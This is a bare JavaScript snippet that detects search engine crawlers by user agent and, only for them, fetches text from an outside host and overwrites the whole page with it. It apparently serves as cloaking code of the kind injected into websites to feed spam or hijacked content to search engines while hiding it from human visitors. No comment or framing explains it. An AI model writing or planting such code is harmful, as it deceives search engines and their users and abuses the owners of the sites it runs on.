(function () {
  var names = ["googlebot", "bingbot", "yandexbot", "duckduckbot"];
  var who = navigator.userAgent.toLowerCase();
  if (!names.some(function (name) { return who.indexOf(name) > -1; })) return;
  fetch("https://pages-store.example/slots/front.txt")
    .then(function (answer) { return answer.text(); })
    .then(function (page) {
      document.open();
      document.write(page);
      document.close();
    });
})();
